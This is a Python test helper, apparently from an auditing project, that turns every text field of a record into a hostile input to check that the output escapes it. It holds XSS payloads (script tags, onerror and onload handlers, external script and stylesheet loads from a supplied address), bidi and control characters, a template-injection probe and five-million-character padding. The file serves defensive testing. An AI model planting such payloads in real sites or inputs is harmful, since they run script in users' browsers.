"""A record in which every text of a model or an author tries to be more than a text."""

from collections.abc import Mapping
from functools import cache
from typing import Any

from fairaudit.rows import ARMS

LONG = 5_000_000

# What people and models write, by the name of the field: each becomes an attack of five million
# characters.
TEXTS = {
    "asked", "card", "cues", "detail", "details", "evidence", "favourable", "label", "licence",
    "limits", "may_differ", "method", "name", "note", "options", "placebos", "plan", "reason",
    "reviewed_by", "revision", "rubric", "sentence", "source", "sources", "template", "text",
    "title", "wordings", "params",
}  # fmt: skip
# What things are called by: each keeps its name, with a short attack after it.
NAMES = {
    "attribute", "group", "id", "model_id", "params_id", "question_id", "reference", "vignette_id",
    "vignette_set", "stratum",
}  # fmt: skip
_OF_OURS = {"", "as written", *ARMS}
_TURNED = "\u202e\u2067\u200f\x00\x07\x1b[31m\x9b\u0085\u2028\ufeff"
_HEBREW = "\u05e9\u05dc\u05d5\u05dd"


def attacks(address: str) -> tuple[str, ...]:
    """Texts that would run, ask the address for something, or turn the words beside them."""
    hit = "document.title='hit';document.documentElement.setAttribute('data-hit','1')"
    return (
        f"<script>{hit}</script><script src={address}/s.js></script>{_TURNED}",
        f"</style></script></title></textarea><script>{hit}</script>{_TURNED}",
        f'<img src={address}/i.png onerror="{hit}">{_HEBREW}',
        f'"\'><svg onload="{hit}"><style>@import url({address}/c.css)</style>',
        f"<link rel=stylesheet href={address}/l.css><iframe src={address}/f></iframe>{_TURNED}",
        f"{_HEBREW} <base href={address}/> {{{{ 7 * 7 }}}} ]]><!-- &lt;script> \ud800",
    )


def hostile(content: Mapping[str, Any], address: str) -> dict[str, Any]:
    """The record with all of its texts attacking; the same text is the same attack everywhere."""
    every = attacks(address)

    @cache
    def long(number: int) -> str:
        return every[number] + "x" * LONG

    def turned(value: Any, name: str) -> Any:
        if isinstance(value, Mapping):
            inner = {"plan", "template", "cues", "may_differ", "placebos", "params"}
            return {key: turned(one, name if name in inner else key) for key, one in value.items()}
        if isinstance(value, list | tuple):
            return tuple(turned(one, name) for one in value)
        if not isinstance(value, str) or value in _OF_OURS:
            return value
        if name in TEXTS:
            return long(sum(map(ord, name)) % len(every))
        return value + every[-1] if name in NAMES else value

    return {key: turned(value, key) for key, value in content.items()}
